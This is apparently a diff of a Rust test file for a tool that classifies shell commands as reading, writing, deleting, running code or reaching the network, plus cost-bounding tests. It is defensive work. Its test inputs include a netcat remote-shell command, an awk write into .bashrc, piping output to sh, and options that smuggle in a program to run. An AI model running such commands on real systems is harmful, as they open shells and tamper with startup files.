@@ -20,7 +20,7 @@ fn letters(marks: &[Marked]) -> String {
 }
 
 fn stage_marks(stage: &Stage) -> Vec<Marked> {
-    of_stage(stage, &Lanes::default(), &mut COMMANDS.clone())
+    of_stage(stage, &Lanes::default(), &mut WORK.clone())
 }
 
 /// Of one command, written with spaces between its words, which may have single quotes around them.
@@ -51,13 +51,18 @@ fn programs_that_only_read_have_no_mark() {
         "find . -name '*.rs' -type f",
         "gzip -c",
         "gzip -dc a.gz",
+        "gzip -d -c a.gz",
+        "gzip -9 -n -c f",
+        "gzip -l a.gz",
+        "zstd -19 -c f",
+        "lz4 -d -c a",
         "xz",
         "tee /dev/null",
         "tee /dev/fd/63",
         "awk '{print $1}'",
         "awk -F: '$3 > 100 {print $1}' /etc/passwd",
         "awk '/a|b/ || $1 ~ /c|d/ {n++} END {print n}'",
-        "awk '{print \"a > b | c\"}'",
+        "awk '$1 > 4 / 2 {print $1 / 2 \";\" $2}'",
         "sed 's/e/w/g'",
         "sed -n '/here/,/there/p; $!N; 3q'",
         "sed -E 's|(a)|\\1e|2gI;y/ew/we/'",
@@ -105,6 +110,13 @@ fn what_writes_removes_runs_and_reaches_out_is_marked() {
         ("awk '{\"date\" | getline d}'", "r"),
         ("awk '{print > \"out\"}'", "w"),
         ("awk '{print $1 >> $2}'", "w"),
+        // A division, a line's end behind a comma, and a `;` in a string hid what is written.
+        ("awk 'BEGIN{print 4/2 \";\" > \"/home/u/.bashrc\"}'", "w"),
+        ("awk 'BEGIN{print 1,\n2 > \"f\"}'", "w"),
+        ("awk 'BEGIN{pri\\\nnt 1 > \"f\"}'", "w"),
+        ("awk 'BEGIN{print 4/2 \";\" | \"sh\"}'", "r"),
+        // A sign in a string is taken for one.
+        ("awk '{print \"a > b | c\"}'", "rw"),
         ("awk -f script", "?"),
         ("gawk -i inplace 1 f", "?"),
         ("gawk '@load \"x\"'", "?"),
@@ -118,12 +130,31 @@ fn what_writes_removes_runs_and_reaches_out_is_marked() {
         ("tar xf a.tar --to-command=sh", "rw"),
         ("tar xf a --checkpoint-action=exec=sh", "rw"),
         ("gzip words.txt", "dw"),
+        // Without an option that sends all to standard output the file is replaced.
+        ("gzip -d a.gz", "dw"),
+        ("gzip -9 f", "dw"),
+        ("gzip -n f", "dw"),
+        ("gzip -c -S .z f", "dw"),
+        ("xz -d f", "dw"),
+        ("bzip2 -d f", "dw"),
+        ("lzma -d f", "dw"),
+        ("zstd -d f", "w"),
+        ("lz4 -d a b", "w"),
+        ("diff3 --diff-program=evil a b c", "r"),
+        ("rg --pre evil x", "r"),
+        ("rg --hostname-bin=evil x", "r"),
+        ("ptx -G in out", "w"),
         ("cp a b", "w"),
         ("mv a b", "dw"),
         ("rm -rf x", "d"),
         ("kill -9 1", "d"),
         ("curl -s http://example.com", "n"),
         ("curl -o out http://example.com", "wn"),
+        ("curl -sO http://example.com/a", "wn"),
+        ("curl --remote-name-all http://example.com/a", "wn"),
+        ("curl --trace-ascii out http://example.com", "wn"),
+        ("curl --libcurl out http://example.com", "wn"),
+        ("curl --etag-save out http://example.com", "wn"),
         ("wget http://example.com", "wn"),
         ("nc -e /bin/sh host 80", "rn"),
         ("openssl s_client -connect x:443", "n"),
@@ -168,6 +199,7 @@ fn a_shell_is_one_whatever_it_is_given_and_what_it_names_is_told() {
     assert_eq!(of("ls 2> /dev/null >&2 &> /dev/null"), "r");
     assert_eq!(of("diff <(ls a) <(ls b)"), "r");
     assert_eq!(of("echo rm the file"), "r");
+    assert_eq!(of("echo hi >out<in"), "rw");
 }
 
 #[test]
@@ -189,8 +221,7 @@ fn files_variables_and_lanes_are_looked_at() {
     }
 
     let lanes = |values: &[&str]| Lanes::Values(values.iter().copied().map(Text::from).collect());
-    let marks =
-        |stage: &Stage, lanes: &Lanes| letters(&of_stage(stage, lanes, &mut COMMANDS.clone()));
+    let marks = |stage: &Stage, lanes: &Lanes| letters(&of_stage(stage, lanes, &mut WORK.clone()));
     let any = Stage::process("a", "{value}", ["x"]);
     assert_eq!(marks(&any, &lanes(&["cat", "sort"])), "");
     assert_eq!(marks(&any, &lanes(&["cat", "rm", "curl"])), "dn");
@@ -221,7 +252,7 @@ fn marks_stand_at_their_stages_and_name_tame_words() {
 
 #[test]
 fn what_takes_too_long_to_look_at_is_not_known() {
-    let text = "sh sh sh sh sh sh sh sh sh sh sh sh;".repeat(3_000);
+    let text = "sh sh sh sh sh sh sh sh sh sh sh sh;".repeat(1_000);
     let chain = Chain::of_stages(
         "",
         vec![Stage::shell("a", &text), Stage::process("b", "cat", [])],
@@ -229,6 +260,47 @@ fn what_takes_too_long_to_look_at_is_not_known() {
     let marks = of_chain(&chain);
     assert_eq!(letters(&marks[0].1), "r?");
     assert_eq!(letters(&marks[1].1), "?");
+}
+
+/// Texts in links that took minutes: signs without end, divisions, words in every lane.
+#[test]
+fn what_looking_costs_is_bounded_by_what_is_looked_at() {
+    let cost = |stage: &Stage, lanes: &Lanes| {
+        let mut left = WORK;
+        let marks = of_stage(stage, lanes, &mut left);
+        assert!(marks.len() <= MARKS + Mark::ALL.len());
+        (letters(&marks), WORK - left)
+    };
+    let single = Lanes::default();
+    // What is too long is not looked at.
+    let long = ">".repeat(4 << 20);
+    assert_eq!(cost(&Stage::shell("a", &long), &single), ("r?".into(), 0));
+    let many = vec!["x"; 1 << 20];
+    assert_eq!(cost(&Stage::process("a", "env", many), &single).1, 0);
+    // A value that stands there often is counted as often.
+    let value = Lanes::Values(vec!["x".repeat(60_000).as_str().into()]);
+    let often = Stage::shell("a", &"{value}".repeat(9_000));
+    assert_eq!(cost(&often, &value), ("r?".into(), 0));
+
+    // What is looked at costs a few times its length, and never the square of it.
+    let half = STAGE_BYTES / 2;
+    for stage in [
+        Stage::shell("a", &">".repeat(half)),
+        Stage::shell("a", &"> ".repeat(half / 2)),
+        Stage::shell("a", &">x".repeat(half / 2)),
+        Stage::shell("a", &">\"".repeat(half / 2)),
+        Stage::process("a", "awk", [&*"a/".repeat(half / 2)]),
+        Stage::process("a", "awk", [&*"\"|\" print".repeat(half / 9)]),
+        Stage::process("a", "sed", [&*"s/[/".repeat(half / 4)]),
+    ] {
+        let (_, cost) = cost(&stage, &single);
+        assert!(cost <= 24 * half, "{cost}");
+    }
+    // Words that are looked at again and again, in many lanes, end with what is allowed.
+    let lanes = Lanes::Values(vec!["sh".into(); LANES]);
+    let words = vec!["{value}"; 500];
+    let (marks, cost) = cost(&Stage::process("a", "env", words), &lanes);
+    assert_eq!((marks.as_str(), cost), ("r?", WORK));
 }
 
 proptest! {
